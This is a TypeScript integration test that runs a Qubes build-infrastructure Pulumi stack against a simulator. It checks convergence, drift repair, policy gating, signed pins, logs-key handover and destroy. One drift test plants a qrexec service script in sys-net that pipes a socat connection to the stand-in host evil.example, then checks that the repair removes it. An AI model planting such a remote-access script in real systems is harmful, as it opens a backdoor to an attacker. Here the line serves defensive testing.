// The whole site (index.ts, the fixed test site of fixtures/site.yaml) through the real Pulumi engine
// against a real qubes-sim: create, convergence, a one-env change, a new env, drift, a VM removed by
// hand, invalid config, the policy pack, destroy that keeps what is protected and up again, and a
// full destroy whose next up needs the operator to name the previous logs key.
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as path from "path";
import type { EngineEvent, LocalWorkspace, Stack } from "@pulumi/pulumi/automation";
import { publishStandin } from "../../sim/standin-builders";
import { projectRoot, tempDir } from "../helpers/pulumi";
import { startSim, type StartedSim } from "../helpers/sim";
import { githubDir, githubLogs, NS, SITE_ENVS, siteConfig, siteStack, stackFile } from "./siteStack";

jest.setTimeout(900_000);

// Admin writes (test/site/preview.test.ts checks a preview with qubes-sim's own write and start counters).
const MUTATING = /\.(Set|Reset|Remove|Resize|Replace|Start|Shutdown|Kill)$|\.Create\./;
const POLICY_PACK = path.join(projectRoot, "policy");

/**
 * The resources a preview would create, update, replace or delete, by operation. `entries`, when
 * given, gets the entries each updated VmFiles would change (keys whose inputs differ).
 */
async function planned(stack: Stack, opts: { policyPacks?: string[] } = {}, entries?: Record<string, string[]>): Promise<Record<string, string[]>> {
  const ops: Record<string, string[]> = {};
  await stack.preview({
    ...opts,
    onEvent: (e: EngineEvent) => {
      const m = e.resourcePreEvent?.metadata;
      if (!m || ["same", "create-replacement", "delete-replaced"].includes(m.op) || m.type === "pulumi:pulumi:Stack" || m.type.startsWith("pulumi:providers:")) return;
      const name = m.urn.split("::").pop() ?? m.urn;
      (ops[m.op] ??= []).push(name);
      if (entries && m.op === "update" && m.type.endsWith(":VmFiles")) {
        const before = (m.old?.inputs?.files ?? {}) as Record<string, unknown>;
        const after = (m.new?.inputs?.files ?? {}) as Record<string, unknown>;
        entries[name] = [...new Set([...Object.keys(before), ...Object.keys(after)])]
          .filter((k) => JSON.stringify(before[k]) !== JSON.stringify(after[k])).sort();
      }
    },
  });
  for (const v of Object.values(ops)) v.sort();
  return ops;
}

describe("the site through the Pulumi engine against qubes-sim", () => {
  let sim: StartedSim;
  let stack: Stack;
  const backend = tempDir("site-backend");
  const stackName = `sitetest${process.pid}`;

  // What earlier tests changed for good (fedora's volume grew: it cannot shrink back).
  let kept: Record<string, unknown> = {};
  const setSite = async (patch: Record<string, unknown> = {}) => stack.setAllConfig(siteConfig(sim, { ...kept, ...patch }));
  const calls = async (): Promise<Record<string, number>> => JSON.parse((await sim.client.call("sim.Stats", "dom0")).toString()).calls as Record<string, number>;
  /** Admin writes made while `fn` runs; `fn`'s own failure (an assertion included) fails the test. */
  const writesDuring = async (fn: () => Promise<void>): Promise<Record<string, number>> => {
    const before = await calls();
    await fn();
    const after = await calls();
    const out: Record<string, number> = {};
    for (const [m, n] of Object.entries(after)) if (MUTATING.test(m) && n - (before[m] ?? 0) > 0) out[m] = n - (before[m] ?? 0);
    return out;
  };
  const logsHead = (format: string) =>
    execFileSync("git", ["--git-dir", githubLogs(sim), "log", "-1", `--format=${format}`, "main"]).toString().trim();
  const inVm = async (vm: string, command: string) => (await sim.client.run(vm, command, { user: "user" })).stdout.toString();

  beforeAll(async () => {
    sim = await startSim();
    stack = await siteStack(stackName, backend, sim);
    // refresh and destroy run the program, so that the providers get this run's stack config.
    (stack.workspace as LocalWorkspace).envVars.PULUMI_RUN_PROGRAM = "true";
  });
  afterAll(async () => {
    await sim?.stop();
    fs.rmSync(stackFile(stackName), { force: true });
    fs.rmSync(backend, { recursive: true, force: true });
  });

  it("creates the whole site, gated by the policy pack, and converges", async () => {
    const first = await planned(stack, { policyPacks: [POLICY_PACK] });
    expect(first.create.length).toBeGreaterThan(30);
    const up = await stack.up();
    expect(up.summary.result).toBe("succeeded");

    const vms = new Map((await sim.client.vmList()).map((v) => [v.name, v]));
    for (const n of ["logs", "build-fedora", "keys-fedora", "build-debian", "keys-debian", "builder-dvm"]) expect(vms.has(n)).toBe(true);
    expect((await sim.client.propertyGet("keys-fedora", "netvm")).value).toBe("");
    expect((await sim.client.propertyGet("build-fedora", "netvm")).value).toBe("sys-whonix");
    expect((await sim.client.propertyGet("build-debian", "default_dispvm")).value).toBe("builder-dvm");
    const policy = await sim.client.policyGet("20-qubes-build-infra");
    expect(policy.content).toMatch(/^qubesbuilder\.LogReceived\s+\+build-fedora\s+logs\s+@adminvm\s+allow target=keys-fedora$/m);
    const cfg = await sim.client.readFile("keys-fedora", "/usr/local/etc/qubes-build-infra/gpg-gate.json");
    expect(JSON.parse(String(cfg)).clients).toEqual(["build-fedora"]);
    expect(logsHead("%s")).toBe("Start of the build logs");

    const again = await stack.up();
    expect(Object.keys(again.summary.resourceChanges ?? {})).toEqual(["same"]);
    // The deployed site (props now from state) still passes every policy.
    expect(await planned(stack, { policyPacks: [POLICY_PACK] })).toEqual({});
  });

  it("changes only the env that changed, and adds an env by creating only its resources", async () => {
    await setSite({ [`${NS}:envs`]: { ...SITE_ENVS, fedora: { ...SITE_ENVS.fedora, volumeSize: "30GiB" } } });
    expect(await planned(stack)).toEqual({ update: ["build-fedora"] });
    expect(await writesDuring(async () => void (await stack.up()))).toEqual({ "admin.vm.volume.Resize": 1 });

    await setSite({ [`${NS}:envs`]: { ...SITE_ENVS, fedora: { ...SITE_ENVS.fedora, volumeSize: "30GiB" }, arch: { logs: "logs", builders: [{ dir: "/home/user/builder-arch", release: "4.3" }] } } });
    try {
      const entries: Record<string, string[]> = {};
      const ops = await planned(stack, {}, entries);
      expect(ops.create.length).toBeGreaterThan(5);
      for (const name of ops.create) expect(name).toMatch(/-arch(:|$)|^arch$/);
      // Besides its own resources: its policy lines, the net VM's list of build VMs, and the
      // shared logs VM, which now also serves arch (its qbi-env-arch tag, its BuildLog's build VMs).
      expect((ops.update ?? []).sort()).toEqual(["logs", "logs:files", "policy", "sys-net:files"]);
      // In the VMs' files, exactly those two entries.
      expect(entries).toEqual({
        "logs:files": ["/usr/local/etc/qubes-build-infra/build-log.json"],
        "sys-net:files": ["/home/user/.config/qubes-builder-github/build-vms.list"],
      });
      expect(ops.delete).toBeUndefined();
    } finally {
      kept = { [`${NS}:envs`]: { ...SITE_ENVS, fedora: { ...SITE_ENVS.fedora, volumeSize: "30GiB" } } };
      await setSite();
    }
  });

  it("shows hand edits of dom0 on a plain preview and repairs them with a plain up; files in VMs through refresh", async () => {
    await sim.client.propertySet("build-fedora", "netvm", "sys-firewall");
    const cur = await sim.client.policyGet("20-qubes-build-infra");
    await sim.client.policyReplace("20-qubes-build-infra", cur.content.replace(/^qubes\.Gpg .*build-fedora .*keys-fedora .*allow.*\n/m, ""), "any");
    await sim.client.writeFile("sys-net", "/usr/local/etc/qubes-rpc/local.ConnectSSH", "#!/bin/sh\nexec socat - TCP:evil.example:22\n", { mode: 0o755 });

    expect(await planned(stack)).toEqual({ update: ["build-fedora", "policy"] });
    const repair = await stack.up();
    expect(repair.summary.result).toBe("succeeded");
    expect((await sim.client.propertyGet("build-fedora", "netvm")).value).toBe("sys-whonix");
    expect((await sim.client.policyGet("20-qubes-build-infra")).content).toBe(cur.content);

    const refresh = await stack.refresh();
    expect(refresh.summary.resourceChanges?.update).toBe(1);
    await stack.up();
    expect(String(await sim.client.readFile("sys-net", "/usr/local/etc/qubes-rpc/local.ConnectSSH"))).not.toContain("evil.example");
    expect(await planned(stack)).toEqual({});
  });

  it("a VM removed by hand: refresh drops it and what was in it, up rebuilds it with all its services", async () => {
    await sim.client.vmKill("build-debian").catch(() => undefined);
    await sim.client.vmRemove("build-debian");
    const refresh = await stack.refresh();
    expect(refresh.summary.result).toBe("succeeded");
    const ops = await planned(stack);
    expect(ops.create).toEqual(expect.arrayContaining(["build-debian", "build-debian:files", "build-debian:ssh"]));
    const up = await stack.up();
    expect(up.summary.result).toBe("succeeded");
    expect(await inVm("build-debian", "ls /usr/local/etc/qubes-rpc")).toContain("qubesbuilder.TriggerBuild");
    expect(await inVm("build-debian", "cat /rw/config/gpg-split-domain")).toBe("keys-debian\n");
    expect(await planned(stack)).toEqual({});
  });

  it("refuses an invalid config at preview, naming the key, without a stack trace, and changes nothing", async () => {
    await setSite({ [`${NS}:envs`]: { ...(kept[`${NS}:envs`] as object), "Bad Env": SITE_ENVS.fedora } });
    const writes = await writesDuring(async () => {
      const e = (await stack.preview().then(() => undefined, (x: unknown) => x)) as Error | undefined;
      expect(e?.message).toMatch(/qubes-build-infra:envs\.Bad Env: environment name/);
      // The program's error is shown as it is: no Node stack trace, no raw colour codes.
      expect(e?.message).not.toMatch(/\n\s+at \S+ \(/);
      expect(e?.message.includes("\u001b[")).toBe(false);
    });
    expect(writes).toEqual({});
    // A netvm dom0 does not have is caught by the preview, named by its key, without starting any VM.
    await setSite({ [`${NS}:buildNetvm`]: "sys-nowhere" });
    const before = await calls();
    await expect(stack.preview()).rejects.toThrow(/netvm: sys-nowhere does not exist in dom0 \(set by qubes-build-infra:buildNetvm\)/);
    expect((await calls())["sim.vm.Run"] ?? 0).toBe(before["sim.vm.Run"] ?? 0);
    await stack.removeConfig(`${NS}:buildNetvm`);
  });

  it("refuses a builder.yml value builderv2 would mis-read at preview, naming env, builder and reason, and changes nothing", async () => {
    const envs = kept[`${NS}:envs`] as Record<string, { builders: Record<string, unknown>[] }>;
    const debian = { ...envs.debian, builders: [{ ...envs.debian.builders[0], release: "10.1" }] };
    await setSite({ [`${NS}:envs`]: { ...envs, debian } });
    const writes = await writesDuring(async () => {
      await expect(stack.preview()).rejects.toThrow(/env debian, builder \/home\/user\/artifacts-r4.3: builder.yml would not load as builderv2 expects:\s+qubes-release: r<digit>.<digits>/);
    });
    expect(writes).toEqual({});
  });

  it("a pin change updates only that checkout; a pin that does not verify fails naming env, builder and reason, and keeps the previous checkout", async () => {
    const github = githubDir(sim);
    // build-fedora's volume grew to 30 GiB above (volumes only grow): `kept` has it.
    const envs = kept[`${NS}:envs`] as Record<string, { builders: { config: { repository: Record<string, unknown> } }[] }>;
    const withConfigPin = (commit: string, tag: string) => {
      const b = envs.debian.builders[0];
      return { ...envs, debian: { ...envs.debian, builders: [{ ...b, config: { ...b.config, repository: { ...b.config.repository, commit, tag } } }] } };
    };
    const dir = "/home/user/artifacts-r4.3/config/release-configs";
    const head = async () => (await sim.client.run("build-debian", `git -C ${dir} rev-parse HEAD`)).stdout.toString().trim();
    try {
      const c2 = publishStandin(github, "qubes-release-configs", { files: { "R4.3/NEWS": "a second release\n" }, tag: "v2" });
      await setSite({ [`${NS}:envs`]: withConfigPin(c2, "v2") });
      expect(await planned(stack)).toEqual({ update: ["build-debian:checkout:config:/home/user/artifacts-r4.3"] });
      const up = await stack.up();
      expect(up.summary.resourceChanges).toMatchObject({ update: 1 });
      expect(await head()).toBe(c2);
      expect(String(await sim.client.readFile("build-debian", `${dir}/R4.3/NEWS`))).toBe("a second release\n");

      const c3 = publishStandin(github, "qubes-release-configs", { files: { "R4.3/NEWS": "not signed\n" }, tag: "v3", signed: false });
      await setSite({ [`${NS}:envs`]: withConfigPin(c3, "v3") });
      await expect(stack.up()).rejects.toThrow(
        new RegExp(`env debian, builder /home/user/artifacts-r4.3, config repository release-configs\\) build-debian:${dir}: checking out the pin: tag v3 is not signed; the previous checkout \\(commit ${c2}\\) is left in place`));
      expect(await head()).toBe(c2);
    } finally {
      await setSite({ [`${NS}:envs`]: envs });
      await stack.up();
    }
  });

  it("stops a change that breaks the security model before it reaches dom0", async () => {
    await setSite({ [`${NS}:buildNetvm`]: "sys-net" });
    const writes = await writesDuring(async () => {
      await expect(stack.preview({ policyPacks: [POLICY_PACK] })).rejects.toThrow(/build-network-through-tor/);
    });
    expect(writes).toEqual({});
    expect((await sim.client.propertyGet("build-fedora", "netvm")).value).toBe("sys-whonix");
    await stack.removeConfig(`${NS}:buildNetvm`);
  });

  it("destroy keeps what is protected (keys and logs VMs and their keys), and up brings the site back as it was", async () => {
    await setSite({ [`${NS}:protectKeys`]: true });
    await stack.up();
    const head = logsHead("%H");
    const destroy = await stack.destroy({ excludeProtected: true });
    expect(destroy.summary.result).toBe("succeeded");
    const left = (await sim.client.vmList()).map((v) => v.name);
    expect(left).toEqual(expect.arrayContaining(["keys-fedora", "keys-debian", "logs"]));
    expect(left).not.toContain("build-fedora");
    const up = await stack.up();
    expect(up.summary.result).toBe("succeeded");
    expect(logsHead("%H")).toBe(head);
    expect(await planned(stack)).toEqual({});
  });

  it("a full destroy loses the logs key: the next up refuses the logs head until the operator names the previous key, then hands over", async () => {
    const oldKey = (await inVm("logs", "gpg --batch --with-colons --list-secret-keys | awk -F: '/^fpr/ {print $10; exit}'")).trim();
    const oldPublic = await inVm("logs", `gpg --batch --armor --export ${oldKey}`);
    await setSite({ [`${NS}:protectKeys`]: false });
    await stack.up();
    const head = logsHead("%H");
    expect((await stack.destroy()).summary.result).toBe("succeeded");
    expect((await sim.client.vmList()).map((v) => v.name)).not.toContain("logs");

    const refused = (await stack.up().then(() => undefined, (e: unknown) => e)) as Error | undefined;
    expect(refused?.message).toMatch(new RegExp(`the head of file:///srv/qubes-sim-github/build-logs\\.git main is not signed by the logs key [0-9A-F]{40}.*` +
      `pulumi config set --path 'qubes-build-infra:logs\\.previousKeys\\.<FINGERPRINT>'`, "s"));
    // Nothing was pushed over the old history.
    expect(logsHead("%H")).toBe(head);

    const logs = { repo: "file:///srv/qubes-sim-github/build-logs.git", branch: "main", previousKeys: { [oldKey]: oldPublic } };
    await setSite({ [`${NS}:logs`]: logs });
    const up = await stack.up();
    expect(up.summary.result).toBe("succeeded");
    const newKey = (await inVm("logs", "gpg --batch --with-colons --list-secret-keys | awk -F: '/^fpr/ {print $10; exit}'")).trim();
    expect(newKey).not.toBe(oldKey);
    expect(logsHead("%s")).toBe(`Logs key handover: ${oldKey} to ${newKey}`);
    expect(await inVm("logs", "cd ~/QubesIncomingBuildLog && git log -1 --format='%G? %GF'")).toBe(`G ${newKey}\n`);
    expect(await planned(stack)).toEqual({});
  });

  it("destroys everything in dependency order", async () => {
    const destroy = await stack.destroy();
    expect(destroy.summary.result).toBe("succeeded");
    const names = (await sim.client.vmList()).map((v) => v.name);
    for (const n of ["logs", "build-fedora", "keys-fedora", "builder-dvm"]) expect(names).not.toContain(n);
    expect(await sim.client.policyList()).not.toContain("20-qubes-build-infra");
  });
});
